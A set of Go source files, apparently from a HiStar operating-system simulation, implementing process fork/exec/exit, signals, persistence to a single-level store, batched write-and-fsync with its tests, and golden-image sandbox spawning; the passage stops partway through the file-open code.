			newMaps = append(newMaps, m)
			continue
		}
		cp, err := p.TC.SegmentCopy(m.Seg, child.IntCt, intLbl, "fork copy")
		if err != nil {
			return nil, mapKernelErr(err)
		}
		m.Seg = kernel.CEnt{Container: child.IntCt, Object: cp}
		newMaps = append(newMaps, m)
	}
	if err := p.TC.AddressSpaceSet(child.AS, newMaps); err != nil {
		return nil, mapKernelErr(err)
	}
	// Duplicate the descriptor table: the child holds hard links to the
	// shared descriptor segments so they survive either process exiting.
	p.shareFDs(child, true)
	return child, nil
}

// shareFDs makes the parent's descriptors visible in the child.  When link
// is true the descriptor segments are hard linked into the child's process
// container (fork semantics: shared state kept alive by both processes).
// The child's FD structs are copies, but they share the parent's descriptor
// segment and seek lock, so seek state stays coherent across both processes.
func (p *Process) shareFDs(child *Process, link bool) {
	p.fdMu.RLock()
	fds := make(map[int]*FD, len(p.fds))
	for n, fd := range p.fds {
		fds[n] = fd
	}
	p.fdMu.RUnlock()
	for n, fd := range fds {
		nfd := *fd
		if link {
			_ = p.TC.ObjectSetFixedQuota(fd.Seg)
			_ = p.TC.Link(child.ProcCt, fd.Seg)
			if fd.Pipe != nil {
				_ = p.TC.ObjectSetFixedQuota(fd.Pipe.Seg)
				_ = p.TC.Link(child.ProcCt, fd.Pipe.Seg)
			}
		}
		child.fdMu.Lock()
		child.fds[n] = &nfd
		child.fdMu.Unlock()
	}
}

// Exec replaces the child's program with the registered binary at path and
// starts it.  Combined with Fork it reproduces the classic fork/exec pair
// (317 syscalls on the paper's measurement; likewise much more expensive
// than Spawn here).
func (p *Process) Exec(path string, args []string) error {
	prog, ok := p.sys.LookupProgram(p.sys.execPath(p, path)) // resolve via cwd
	if !ok {
		return ErrNoProgram
	}
	// Tear down the copied mappings and build a fresh text/data/heap/stack,
	// as exec discards the inherited image.
	maps, err := p.TC.AddressSpaceGet(p.AS)
	if err != nil {
		return mapKernelErr(err)
	}
	for _, m := range maps {
		if m.Flags&kernel.MapThreadLocal != 0 {
			continue
		}
		_ = p.TC.AddressSpaceRemoveMapping(p.AS, m.VA)
		_ = p.TC.Unref(m.Seg.Container, m.Seg.Object)
	}
	intLbl := label.New(label.L1, label.P(p.Pr, label.L3), label.P(p.Pw, label.L0))
	if err := p.setupMemorySegments(p.TC, intLbl); err != nil {
		return err
	}
	go p.run(prog, args)
	return nil
}

func (sys *System) execPath(p *Process, path string) string {
	return p.abs(path)
}

// Run executes fn as the body of this process on the calling goroutine and
// records its return value as the exit status.  It is how tests and examples
// drive a process without registering a named program.
func (p *Process) Run(fn Program, args []string) int {
	status := fn(p, args)
	p.Exit(status)
	return status
}

// run is the goroutine body for spawned/exec'd processes.
func (p *Process) run(prog Program, args []string) {
	status := prog(p, args)
	p.Exit(status)
}

// Exit records the exit status in the exit status segment, wakes waiters,
// and halts the process's main thread.  Information about the exit flows to
// whoever can read the process container — for tainted processes this is an
// explicit, user-level information leak performed via an untainting gate
// when the category owner created one (Section 5.8).
func (p *Process) Exit(status int) {
	p.mu.Lock()
	if p.exited {
		p.mu.Unlock()
		return
	}
	p.exited = true
	p.mu.Unlock()

	var buf [exitSegSize]byte
	binary.LittleEndian.PutUint64(buf[exitFlagOff:], 1)
	binary.LittleEndian.PutUint64(buf[exitStatusOff:], uint64(status))
	_ = p.TC.SegmentWrite(p.ExitSeg, 0, buf[:])
	_, _ = p.TC.FutexWake(p.ExitSeg, exitFlagOff, 64)
	_ = p.TC.ThreadHalt()
}

// ExitQuietly is Exit(0) for helper processes whose status nobody collects.
func (p *Process) ExitQuietly() { p.Exit(0) }

// Exited reports whether the process has exited.
func (p *Process) Exited() bool {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.exited
}

// Wait blocks until child exits and returns its exit status, by reading the
// child's exit status segment and sleeping on its futex.
func (p *Process) Wait(child *Process) (int, error) {
	for {
		buf, err := p.TC.SegmentRead(child.ExitSeg, 0, exitSegSize)
		if err != nil {
			return 0, mapKernelErr(err)
		}
		if binary.LittleEndian.Uint64(buf[exitFlagOff:]) == 1 {
			status := int(binary.LittleEndian.Uint64(buf[exitStatusOff:]))
			// Reap: drop the child's process container.
			_ = p.TC.Unref(p.sys.Kern.RootContainer(), child.ProcCt)
			return status, nil
		}
		if err := p.TC.FutexWait(child.ExitSeg, exitFlagOff, 0); err != nil {
			return 0, mapKernelErr(err)
		}
	}
}

// ---------------------------------------------------------------------------
// Signals (Section 5.6).
// ---------------------------------------------------------------------------

// Common signal numbers.
const (
	SIGKILL = 9
	SIGTERM = 15
	SIGUSR1 = 10
)

// Signal installs a handler for sig in this process.
func (p *Process) Signal(sig int, handler func(sig int)) {
	p.sigMu.Lock()
	defer p.sigMu.Unlock()
	p.handlers[sig] = handler
}

// Kill sends a signal to target by invoking its signal gate.  The gate's
// clearance ({uw0, 2}) means only threads with the target user's privilege
// may signal the target's processes.  The caller temporarily acquires the
// target's pr/pw ownership through the gate (the gate entry needs it to
// write the target's address space) and drops it again before returning, as
// the library's gate-call convention does with a return gate.
func (p *Process) Kill(target *Process, sig int) error {
	lbl, err := p.TC.SelfLabel()
	if err != nil {
		return mapKernelErr(err)
	}
	clr, err := p.TC.SelfClearance()
	if err != nil {
		return mapKernelErr(err)
	}
	reqLbl := lbl.With(target.Pr, label.Star).With(target.Pw, label.Star)
	reqClr := clr.With(target.Pr, label.L3).With(target.Pw, label.L3)
	var args [8]byte
	binary.LittleEndian.PutUint64(args[:], uint64(sig))
	out, err := p.TC.GateEnter(target.SignalGate, kernel.GateRequest{
		Label:     reqLbl,
		Clearance: reqClr,
		Verify:    lbl,
		Args:      args[:],
	})
	// Drop the acquired privilege again regardless of the call's outcome.
	_ = p.TC.SelfSetLabel(lbl.With(target.Pr, label.L1).With(target.Pw, label.L1))
	_ = p.TC.SelfSetClearance(clr)
	if err != nil {
		return mapKernelErr(err)
	}
	if string(out) != "ok" {
		return fmt.Errorf("unixlib: signal delivery failed: %s", out)
	}
	return nil
}

// HandlePendingSignals drains the alert queue and runs the registered
// handlers; processes call it at convenient points (the library's alert
// handler vector).
func (p *Process) HandlePendingSignals() int {
	handled := 0
	for {
		code, ok, err := p.TC.AlertPoll()
		if err != nil || !ok {
			return handled
		}
		handled++
		sig := int(code)
		p.sigMu.Lock()
		h := p.handlers[sig]
		p.sigMu.Unlock()
		if sig == SIGKILL {
			p.Exit(128 + SIGKILL)
			return handled
		}
		if h != nil {
			h(sig)
		}
	}
}
