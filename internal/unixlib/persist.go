package unixlib

import (
	"errors"
	"fmt"

	"histar/internal/kernel"
	"histar/internal/label"
	"histar/internal/store"
)

// Persistence bridge to the single-level store.  When a store is attached,
// file and directory segments are mirrored into it keyed by their kernel
// object ID, so the durability semantics of the paper apply: asynchronous
// writes reach disk only at the next checkpoint, per-file fsync commits one
// object through the write-ahead log, and directory fsync (or an explicit
// group sync) checkpoints the entire system state.
//
// On a real HiStar machine the kernel itself writes every object to disk at
// each snapshot; mirroring at the library layer preserves the same on-disk
// traffic for the objects the benchmarks exercise without entangling the
// kernel simulation with the disk model.

// persistLabel records an object's information-flow label in the store.  It
// is called once, where the object is created and its label is already in
// hand, so the per-write persist paths below stay free of extra kernel
// calls.  The label travels with the object so a restored system can
// rebuild its canonical form (and fingerprint) without consulting the
// kernel.
func (sys *System) persistLabel(id kernel.ID, lbl label.Label) {
	if sys.Persist == nil {
		return
	}
	_ = sys.Persist.SetLabel(uint64(id), lbl)
}

// persistFileAsync records a file's current contents in the store's
// in-memory dirty set (no disk I/O yet).  The object's label was recorded
// by persistLabel when the file was created.
func (sys *System) persistFileAsync(tc *kernel.ThreadCall, file kernel.CEnt) {
	if sys.Persist == nil {
		return
	}
	n, err := tc.SegmentLen(file)
	if err != nil {
		return
	}
	data, err := tc.SegmentRead(file, 0, n)
	if err != nil {
		return
	}
	_ = sys.Persist.Put(uint64(file.Object), data)
}

// persistFileSync is persistFileAsync followed by a write-ahead-log commit
// for that object (fsync of a file).
func (sys *System) persistFileSync(tc *kernel.ThreadCall, file kernel.CEnt) error {
	if sys.Persist == nil {
		return nil
	}
	sys.persistFileAsync(tc, file)
	return sys.Persist.SyncObject(uint64(file.Object))
}

// persistDirectory mirrors a directory's segment into the store (async).
func (sys *System) persistDirectory(tc *kernel.ThreadCall, dir kernel.ID) {
	if sys.Persist == nil {
		return
	}
	seg, err := sys.dirSegCE(tc, dir)
	if err != nil {
		return
	}
	sys.persistFileAsync(tc, seg)
}

// persistDelete records an object's deletion.
func (sys *System) persistDelete(id kernel.ID) {
	if sys.Persist == nil {
		return
	}
	_ = sys.Persist.Delete(uint64(id))
}

// pageInFile models HiStar's whole-segment paging: the prototype "does not
// support paging in of partial segments, so the entire file segment is paged
// in when the file is first accessed" (Section 7.1).  Reading any byte of an
// uncached file costs a full-object read from the store.
//
// Most store errors are ignored (the contents authoritative for the
// simulation live in the kernel segment; the read only drives the latency
// model) — but a detected-corruption error is real damage a real kernel
// would refuse to page in, so it is surfaced as kernel.ErrCorrupt and
// reaches the caller as EIO.
func (sys *System) pageInFile(file kernel.CEnt) error {
	if sys.Persist == nil {
		return nil
	}
	if sys.Persist.Cached(uint64(file.Object)) {
		return nil
	}
	_, err := sys.Persist.Get(uint64(file.Object))
	if err != nil && (errors.Is(err, store.ErrCorrupt) || errors.Is(err, store.ErrQuarantined)) {
		return fmt.Errorf("%w: paging in object %d: %v", kernel.ErrCorrupt, file.Object, err)
	}
	return nil
}

// SyncWholeSystem checkpoints the single-level store: every dirty object is
// written to its home location and the metadata trees and superblock are
// updated once.
func (sys *System) SyncWholeSystem() error {
	if sys.Persist == nil {
		return nil
	}
	return sys.Persist.Checkpoint()
}

// EvictFileCache drops clean objects from the store's cache so subsequent
// reads hit the simulated disk (benchmark plumbing for the uncached phases).
func (sys *System) EvictFileCache() {
	if sys.Persist != nil {
		sys.Persist.EvictCache()
	}
}
