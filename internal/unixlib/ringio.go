package unixlib

import (
	"errors"

	"histar/internal/kernel"
)

// Ring-driven multi-FD I/O: the second unixlib hot path converted to the
// kernel's batched submission interface.  A server flushing many dirty files
// used to pay, per file, a write syscall, a length syscall, a read-back
// syscall, and — the expensive part — one write-ahead-log flush for the
// fsync.  Here all files' kernel work goes through one ring batch (writes
// and read-backs coalesce to one lock round-trip per file) and all fsyncs
// are dispatched to the store as a single SyncObjects group, which the group
// committer turns into dense log batches: one flush per
// GroupCommitRecords-sized batch instead of one per file.

// WriteOp is one positional write of a writev/fsync fan-out.
type WriteOp struct {
	FD   int
	Off  int64
	Data []byte
}

// PwritevFsync applies every write, persists each touched file, and makes
// them all durable with one group sync.  It returns the total bytes written.
// Writes to the same file apply in op order (the ring keeps same-object
// submission order); the first error is returned after all ops have been
// attempted, matching the per-call loop it replaces.
func (p *Process) PwritevFsync(ops []WriteOp) (int, error) {
	if len(ops) == 0 {
		return 0, nil
	}
	// Resolve descriptors and collect the distinct target files in
	// first-appearance order.
	files := make([]kernel.CEnt, 0, len(ops))
	seen := make(map[kernel.ID]bool, len(ops))
	targets := make([]kernel.CEnt, len(ops))
	var firstErr error
	for i, op := range ops {
		fd, err := p.getFD(op.FD)
		if err != nil {
			if firstErr == nil {
				firstErr = err
			}
			continue
		}
		if fd.File.Object == kernel.NilID {
			if firstErr == nil {
				firstErr = ErrIsDir
			}
			continue
		}
		targets[i] = fd.File
		if !seen[fd.File.Object] {
			seen[fd.File.Object] = true
			files = append(files, fd.File)
		}
	}

	// One ring batch: every write, plus one whole-segment read-back per file
	// for the persistence mirror.  Same-object entries execute in submission
	// order, so each file's read-back sees all its writes.
	r := p.TC.NewRing()
	writeIdx := make([]int, len(ops)) // op -> completion index, -1 if unresolved
	for i := range writeIdx {
		writeIdx[i] = -1
	}
	n := 0
	for i, op := range ops {
		if targets[i].Object == kernel.NilID {
			continue
		}
		r.Submit(kernel.RingEntry{
			Op: kernel.OpSegmentWrite, Seg: targets[i], Off: int(op.Off), Data: op.Data,
		})
		writeIdx[i] = n
		n++
	}
	readIdx := make(map[kernel.ID]int, len(files))
	if p.sys.Persist != nil {
		for _, f := range files {
			r.Submit(kernel.RingEntry{Op: kernel.OpSegmentRead, Seg: f, Off: 0, Len: maxSegRead})
			readIdx[f.Object] = n
			n++
		}
	}
	comps, err := r.Wait(n)
	if err != nil {
		return 0, mapKernelErr(err)
	}

	// Settle the writes.  A quota failure falls back to the library's
	// quota_move retry path, so ring submission keeps Pwrite's semantics for
	// files that outgrow their slack; a fallback write invalidates the ring
	// read-back (it ran before the retry), so those files re-mirror through
	// persistFileAsync below.
	total := 0
	stale := make(map[kernel.ID]bool)
	for i, op := range ops {
		if writeIdx[i] < 0 {
			continue
		}
		werr := comps[writeIdx[i]].Err
		if errors.Is(werr, kernel.ErrQuota) {
			werr = p.sys.segWrite(p.TC, targets[i], int(op.Off), op.Data)
			stale[targets[i].Object] = true
		} else {
			werr = mapKernelErr(werr)
		}
		if werr != nil {
			if firstErr == nil {
				firstErr = werr
			}
			continue
		}
		total += len(op.Data)
	}
	for _, f := range files {
		p.touchMtime(f)
	}
	if p.sys.Persist == nil {
		return total, firstErr
	}
	for _, f := range files {
		if ci, ok := readIdx[f.Object]; ok && !stale[f.Object] && comps[ci].Err == nil {
			_ = p.sys.Persist.Put(uint64(f.Object), comps[ci].Val)
		} else {
			p.sys.persistFileAsync(p.TC, f)
		}
	}

	// One sync batch: the ring hands every file to the store as a single
	// pre-formed group — at most ⌈files/GroupCommitRecords⌉ log flushes.
	if err := p.sys.ringSyncFiles(p.TC, files); err != nil && firstErr == nil {
		firstErr = err
	}
	return total, firstErr
}

// FsyncMany is fsync over many descriptors at once: every file is mirrored
// into the store (whole-segment ring reads, one batch) and committed as one
// group sync.  fsync of a directory keeps its Checkpoint semantics.
func (p *Process) FsyncMany(nums []int) error {
	var files []kernel.CEnt
	seen := make(map[kernel.ID]bool, len(nums))
	checkpoint := false
	var firstErr error
	for _, num := range nums {
		fd, err := p.getFD(num)
		if err != nil {
			if firstErr == nil {
				firstErr = err
			}
			continue
		}
		if fd.File.Object == kernel.NilID {
			checkpoint = true
			continue
		}
		if !seen[fd.File.Object] {
			seen[fd.File.Object] = true
			files = append(files, fd.File)
		}
	}
	if p.sys.Persist == nil {
		return firstErr
	}
	if len(files) > 0 {
		r := p.TC.NewRing()
		for _, f := range files {
			r.Submit(kernel.RingEntry{Op: kernel.OpSegmentRead, Seg: f, Off: 0, Len: maxSegRead})
		}
		comps, err := r.Wait(len(files))
		if err != nil {
			return mapKernelErr(err)
		}
		for i, f := range files {
			if comps[i].Err == nil {
				_ = p.sys.Persist.Put(uint64(f.Object), comps[i].Val)
			}
		}
		if err := p.sys.ringSyncFiles(p.TC, files); err != nil && firstErr == nil {
			firstErr = err
		}
	}
	if checkpoint {
		// A directory among the descriptors checkpoints the whole system,
		// after the per-file syncs so it also covers them.
		if err := p.sys.SyncWholeSystem(); err != nil && firstErr == nil {
			firstErr = err
		}
	}
	return firstErr
}

// ringSyncFiles commits the files' mirrored states durably through one ring
// sync batch: a single SyncObjects group for the store's committer.
func (sys *System) ringSyncFiles(tc *kernel.ThreadCall, files []kernel.CEnt) error {
	if sys.Persist == nil || len(files) == 0 {
		return nil
	}
	r := tc.NewRing()
	r.SetSyncer(sys.Persist)
	for _, f := range files {
		r.Submit(kernel.RingEntry{Op: kernel.OpSync, Seg: f})
	}
	comps, err := r.Wait(len(files))
	if err != nil {
		return mapKernelErr(err)
	}
	for i := range comps {
		if comps[i].Err != nil {
			return mapKernelErr(comps[i].Err)
		}
	}
	return nil
}
