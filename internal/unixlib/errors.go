package unixlib

import "errors"

// Errors returned by the Unix emulation library.  They correspond to the
// errno values the real library hands back to uClibc.
var (
	// ErrNotExist mirrors ENOENT.
	ErrNotExist = errors.New("unixlib: no such file or directory")
	// ErrExist mirrors EEXIST.
	ErrExist = errors.New("unixlib: file exists")
	// ErrNotDir mirrors ENOTDIR.
	ErrNotDir = errors.New("unixlib: not a directory")
	// ErrIsDir mirrors EISDIR.
	ErrIsDir = errors.New("unixlib: is a directory")
	// ErrPermission mirrors EACCES/EPERM: a kernel label check refused the
	// operation.
	ErrPermission = errors.New("unixlib: permission denied")
	// ErrBadFD mirrors EBADF.
	ErrBadFD = errors.New("unixlib: bad file descriptor")
	// ErrNotEmpty mirrors ENOTEMPTY.
	ErrNotEmpty = errors.New("unixlib: directory not empty")
	// ErrInvalid mirrors EINVAL.
	ErrInvalid = errors.New("unixlib: invalid argument")
	// ErrNoProgram is returned by exec/spawn for an unregistered binary.
	ErrNoProgram = errors.New("unixlib: no such program")
	// ErrPipeClosed is returned when writing to a pipe whose read end is
	// gone (the library's SIGPIPE).
	ErrPipeClosed = errors.New("unixlib: broken pipe")
	// ErrNoUser is returned for operations on unknown user accounts.
	ErrNoUser = errors.New("unixlib: no such user")
	// ErrIO mirrors EIO: the object's persistent storage failed integrity
	// verification (the store detected bit rot and quarantined it).
	ErrIO = errors.New("unixlib: input/output error")
)
