package unixlib

import (
	"fmt"

	"histar/internal/kernel"
	"histar/internal/label"
	"histar/internal/store"
)

// Golden-image spawn: the O(metadata) sandbox fast-path.
//
// A golden image is a container snapshot of a pre-baked per-user sandbox —
// programs, directory segments, a scanner database, whatever read-only state
// every user's environment starts from — captured once with a template
// user's categories.  SpawnFromGolden clones it for a real user in
// O(metadata): the kernel remaps the template categories to the user's own
// and shares every data byte copy-on-write, so spawning a 64 MiB sandbox
// costs a subtree walk instead of a 64 MiB build.  BuildSandboxScratch is
// the from-scratch baseline the fast-path replaces (and what the load
// harness compares against).
//
// When the system booted with a persistent store, snapshots are recorded as
// refcounted store bundles (see Boot's SnapshotSink wiring): the segment
// cleaner never reclaims extents a golden image still pins, and every clone
// validates the bundle first, so a rotted shared extent fails the spawn with
// a typed error instead of silently fanning bad bytes out to every sandbox.

// snapshotSink bridges kernel container snapshots to the store's bundle
// layer: captured segments become store objects pinned by a refcounted
// bundle, clones become extent-sharing aliases, and validation goes to the
// bundle's CRC walk.  Attached by Boot when a persistent store is present.
type snapshotSink struct {
	st *store.Store
}

func (s snapshotSink) Record(name string, objs []kernel.SnapshotObjectData) (uint64, error) {
	ids := make([]uint64, 0, len(objs))
	for _, o := range objs {
		if err := s.st.PutLabeled(o.ID, o.Label, o.Data); err != nil {
			return 0, err
		}
		ids = append(ids, o.ID)
	}
	return s.st.SnapshotBundle(name, ids)
}

func (s snapshotSink) Validate(storeLineage uint64) error {
	return s.st.ValidateBundle(storeLineage)
}

func (s snapshotSink) Clone(storeLineage uint64, pairs []kernel.ClonePair) error {
	for _, p := range pairs {
		if err := s.st.CloneObjectLabeled(storeLineage, p.SrcID, p.DstID, p.Label); err != nil {
			return err
		}
	}
	return nil
}

func (s snapshotSink) Drop(storeLineage uint64) error {
	return s.st.DeleteBundle(storeLineage)
}

// GoldenImage describes one baked sandbox image.
type GoldenImage struct {
	// Name is the label the image was baked under; Lineage identifies the
	// kernel snapshot clones name.
	Name    string
	Lineage uint64
	// Root is the baked template subtree's root container (still linked
	// under the kernel root container; it is the master copy).
	Root kernel.ID
	// Template is the user whose categories label the image's private data;
	// SpawnFromGolden remaps them to the spawning user's.  A nil Template
	// bakes a fully public image.
	Template *User
	// Objects and Bytes describe the image: captured object count and total
	// segment data (shared, not copied, by each spawn).
	Objects int
	Bytes   uint64
}

// sandboxLabel is the label sandbox data carries: private to the owning user
// ({ur3, uw0, 1}), or public ({1}) when owner is nil.
func sandboxLabel(owner *User) label.Label {
	if owner == nil {
		return label.New(label.L1)
	}
	return label.New(label.L1, label.P(owner.Ur, label.L3), label.P(owner.Uw, label.L0))
}

// goldenSegChunk is the segment granularity sandbox data is split into.
const goldenSegChunk = 8 << 20

// populateSandbox fills a sandbox container with nbytes of deterministic
// read-only data split into goldenSegChunk segments, writing every byte —
// the cost golden spawns amortize away.
func populateSandbox(tc *kernel.ThreadCall, sandbox kernel.ID, owner *User, nbytes int) error {
	lbl := sandboxLabel(owner)
	for off, i := 0, 0; off < nbytes; i++ {
		n := nbytes - off
		if n > goldenSegChunk {
			n = goldenSegChunk
		}
		sid, err := tc.SegmentCreate(sandbox, lbl, fmt.Sprintf("sandbox data %d", i), n)
		if err != nil {
			return err
		}
		data := make([]byte, n)
		for j := range data {
			data[j] = byte(off + j)
		}
		if err := tc.SegmentWrite(kernel.CEnt{Container: sandbox, Object: sid}, 0, data); err != nil {
			return err
		}
		off += n
	}
	return nil
}

// BakeGolden creates a sandbox container under the kernel root, runs build
// to populate it, and captures it as a container snapshot.  The bootstrap
// thread owns every user's categories, so it can bake images holding the
// template user's private data.
func (sys *System) BakeGolden(name string, tmpl *User, build func(tc *kernel.ThreadCall, sandbox kernel.ID) error) (*GoldenImage, error) {
	tc := sys.initTC
	root := sys.Kern.RootContainer()
	sandbox, err := tc.ContainerCreate(root, sandboxLabel(tmpl), "golden "+name, 0, kernel.QuotaInfinite)
	if err != nil {
		return nil, err
	}
	if build != nil {
		if err := build(tc, sandbox); err != nil {
			_ = tc.Unref(root, sandbox)
			return nil, fmt.Errorf("baking golden image %q: %w", name, err)
		}
	}
	info, err := tc.ContainerSnapshot(kernel.CEnt{Container: root, Object: sandbox}, name)
	if err != nil {
		_ = tc.Unref(root, sandbox)
		return nil, fmt.Errorf("snapshotting golden image %q: %w", name, err)
	}
	return &GoldenImage{
		Name:     name,
		Lineage:  info.Lineage,
		Root:     sandbox,
		Template: tmpl,
		Objects:  info.Objects,
		Bytes:    info.Bytes,
	}, nil
}

// BakeGoldenData bakes a golden image holding nbytes of read-only sandbox
// data (the common case; BakeGolden takes an arbitrary builder).
func (sys *System) BakeGoldenData(name string, tmpl *User, nbytes int) (*GoldenImage, error) {
	return sys.BakeGolden(name, tmpl, func(tc *kernel.ThreadCall, sandbox kernel.ID) error {
		return populateSandbox(tc, sandbox, tmpl, nbytes)
	})
}

// SpawnFromGolden clones the golden image into dst for user u, remapping the
// template user's categories to u's, and returns the kernel's clone result
// (fresh sandbox root, object count, bytes shared COW).  The invoking thread
// must hold u's categories — in the web server this is the worker thread
// right after gate login.  Spawns are O(metadata): no segment byte is
// copied until a clone first writes it.
func (sys *System) SpawnFromGolden(tc *kernel.ThreadCall, img *GoldenImage, dst kernel.ID, u *User) (kernel.CloneResult, error) {
	var remap map[label.Category]label.Category
	if img.Template != nil && u != nil {
		remap = map[label.Category]label.Category{
			img.Template.Ur: u.Ur,
			img.Template.Uw: u.Uw,
		}
	}
	res, err := tc.ContainerClone(img.Lineage, dst, remap)
	if err != nil {
		return kernel.CloneResult{}, fmt.Errorf("spawning from golden image %q: %w", img.Name, err)
	}
	return res, nil
}

// BuildSandboxScratch is the baseline SpawnFromGolden replaces: build an
// equivalent sandbox under dst from scratch, creating and writing every
// segment byte.  Returns the sandbox root container.
func (sys *System) BuildSandboxScratch(tc *kernel.ThreadCall, dst kernel.ID, owner *User, nbytes int) (kernel.ID, error) {
	sandbox, err := tc.ContainerCreate(dst, sandboxLabel(owner), "scratch sandbox", 0, kernel.QuotaInfinite)
	if err != nil {
		return kernel.NilID, err
	}
	if err := populateSandbox(tc, sandbox, owner, nbytes); err != nil {
		_ = tc.Unref(dst, sandbox)
		return kernel.NilID, err
	}
	return sandbox, nil
}
