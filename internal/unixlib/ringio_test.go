package unixlib

import (
	"bytes"
	"fmt"
	"testing"

	"histar/internal/disk"
	"histar/internal/kernel"
	"histar/internal/label"
	"histar/internal/store"
	"histar/internal/vclock"
)

// bootSysGroup boots a persistent system with a small group-commit record
// bound, so the ⌈N/batch⌉ commit math is visible with few files.
func bootSysGroup(t *testing.T, batchRecs int) (*System, *store.Store) {
	t.Helper()
	d := disk.New(disk.Params{Sectors: 1 << 18, WriteCache: true}, &vclock.Clock{})
	st, err := store.Format(d, store.Options{LogSize: 8 << 20, GroupCommitRecords: batchRecs})
	if err != nil {
		t.Fatal(err)
	}
	sys, err := Boot(BootOptions{Persist: st, KernelConfig: kernel.Config{Seed: 1}})
	if err != nil {
		t.Fatal(err)
	}
	return sys, st
}

func TestPwritevFsyncFansOutAndGroupCommits(t *testing.T) {
	const batchRecs, nFiles = 4, 10
	sys, st := bootSysGroup(t, batchRecs)
	p, err := sys.NewInitProcess("root")
	if err != nil {
		t.Fatal(err)
	}
	fds := make([]int, nFiles)
	for i := range fds {
		fd, err := p.Create(fmt.Sprintf("/tmp/rv%d", i), label.Label{})
		if err != nil {
			t.Fatal(err)
		}
		fds[i] = fd
	}

	// Two positional writes per file; the second overlaps the first so
	// same-file op order is observable.  One write is larger than the
	// segment slack to drive the quota_move fallback path.
	var ops []WriteOp
	want := make(map[int][]byte)
	big := bytes.Repeat([]byte("B"), 64<<10)
	for i, fd := range fds {
		first := []byte(fmt.Sprintf("file-%02d-aaaa", i))
		ops = append(ops, WriteOp{FD: fd, Off: 0, Data: first})
		w := append([]byte(nil), first...)
		if i == 3 {
			ops = append(ops, WriteOp{FD: fd, Off: 4, Data: big})
			w = append(w[:4], big...)
		} else {
			second := []byte("ZZ")
			ops = append(ops, WriteOp{FD: fd, Off: 4, Data: second})
			copy(w[4:], second)
		}
		want[fd] = w
	}

	before := st.WALStats().Commits
	n, err := p.PwritevFsync(ops)
	if err != nil {
		t.Fatalf("PwritevFsync: %v", err)
	}
	wantBytes := 0
	for _, op := range ops {
		wantBytes += len(op.Data)
	}
	if n != wantBytes {
		t.Errorf("wrote %d bytes, want %d", n, wantBytes)
	}
	commits := st.WALStats().Commits - before
	if max := uint64((nFiles + batchRecs - 1) / batchRecs); commits == 0 || commits > max {
		t.Errorf("%d-file fan-out took %d WAL commits, want 1..%d", nFiles, commits, max)
	}
	for i, fd := range fds {
		got, err := p.ReadFile(fmt.Sprintf("/tmp/rv%d", i))
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, want[fd]) {
			t.Errorf("file %d contents = %d bytes, want %d (mismatch at %d)",
				i, len(got), len(want[fd]), firstDiff(got, want[fd]))
		}
	}
	rs := sys.Kern.RingStats()
	if rs.SyncGroups == 0 || rs.SyncEntries < nFiles {
		t.Errorf("ring sync stats = %+v, want one group covering %d files", rs, nFiles)
	}
}

func firstDiff(a, b []byte) int {
	n := len(a)
	if len(b) < n {
		n = len(b)
	}
	for i := 0; i < n; i++ {
		if a[i] != b[i] {
			return i
		}
	}
	return n
}

func TestFsyncManyGroupCommits(t *testing.T) {
	const batchRecs, nFiles = 4, 12
	sys, st := bootSysGroup(t, batchRecs)
	p, err := sys.NewInitProcess("root")
	if err != nil {
		t.Fatal(err)
	}
	fds := make([]int, nFiles)
	for i := range fds {
		fd, err := p.Create(fmt.Sprintf("/tmp/fm%d", i), label.Label{})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := p.Write(fd, []byte(fmt.Sprintf("payload %d", i))); err != nil {
			t.Fatal(err)
		}
		fds[i] = fd
	}
	before := st.WALStats().Commits
	if err := p.FsyncMany(fds); err != nil {
		t.Fatalf("FsyncMany: %v", err)
	}
	commits := st.WALStats().Commits - before
	if max := uint64((nFiles + batchRecs - 1) / batchRecs); commits == 0 || commits > max {
		t.Errorf("FsyncMany of %d files took %d WAL commits, want 1..%d", nFiles, commits, max)
	}
	// Each file's synced bytes must be in the store under its object ID.
	for i, fd := range fds {
		f, err := p.getFD(fd)
		if err != nil {
			t.Fatal(err)
		}
		got, err := st.Get(uint64(f.File.Object))
		if err != nil || !bytes.Equal(got, []byte(fmt.Sprintf("payload %d", i))) {
			t.Errorf("store contents of file %d = (%q, %v)", i, got, err)
		}
	}
}
