package unixlib

import (
	"encoding/binary"
	"time"

	"histar/internal/kernel"
	"histar/internal/label"
)

// Per-process file API: the POSIX-ish calls uClibc would make, implemented
// on the fs helpers and the process's descriptor table.

// DefaultFileLabel returns the label new files get for this process: the
// owning user's {ur3, uw0, 1} when running as a user, otherwise {1}, in both
// cases joined with the thread's current taint — a tainted process can only
// create objects at least as tainted as itself.
func (p *Process) DefaultFileLabel() label.Label {
	l := label.New(label.L1)
	if p.User != nil {
		l = l.With(p.User.Ur, label.L3).With(p.User.Uw, label.L0)
	}
	// Interning makes every file of the same user/taint share one canonical
	// label, so kernel access checks hit the pointer-comparison fast path.
	return label.Intern(p.withThreadTaint(l))
}

// withThreadTaint raises l to cover every category in which the calling
// thread is currently tainted at level 2 or 3.
func (p *Process) withThreadTaint(l label.Label) label.Label {
	cur, err := p.TC.SelfLabel()
	if err != nil {
		return l
	}
	for _, c := range cur.Explicit() {
		if lv := cur.Get(c); lv >= label.L2 && l.Get(c) < lv {
			l = l.With(c, lv)
		}
	}
	return l
}

// Create creates a file with the given label and opens it for reading and
// writing.  Pass the zero label to use the process default.
func (p *Process) Create(path string, lbl label.Label) (int, error) {
	if lbl.IsZero() {
		lbl = p.DefaultFileLabel()
	}
	abs := p.abs(path)
	dir, leaf, entry, err := p.sys.resolve(p.TC, p.sys.RootDir, abs, p.mounts)
	if err != nil {
		return -1, err
	}
	if entry != nil {
		return -1, ErrExist
	}
	file, err := p.sys.createFileIn(p.TC, dir, leaf, lbl)
	if err != nil {
		return -1, err
	}
	return p.openEntry(abs, dir, DirEntry{Name: leaf, ID: file, Type: kernel.ObjSegment}, ORead|OWrite)
}

// Open opens an existing file or directory.
func (p *Process) Open(path string, flags uint64) (int, error) {
	abs := p.abs(path)
	dir, _, entry, err := p.sys.resolve(p.TC, p.sys.RootDir, abs, p.mounts)
	if err != nil {
		return -1, err
	}
	if entry == nil {
		return -1, ErrNotExist
	}
	if flags == 0 {
		flags = ORead
	}
	return p.openEntry(abs, dir, *entry, flags)
}

func (p *Process) openEntry(path string, dir kernel.ID, entry DirEntry, flags uint64) (int, error) {
	fdSeg, err := p.newFDSegment(flags)
	if err != nil {
		return -1, err
	}
	fd := &FD{Seg: fdSeg, Path: path}
	if entry.Type == kernel.ObjContainer {
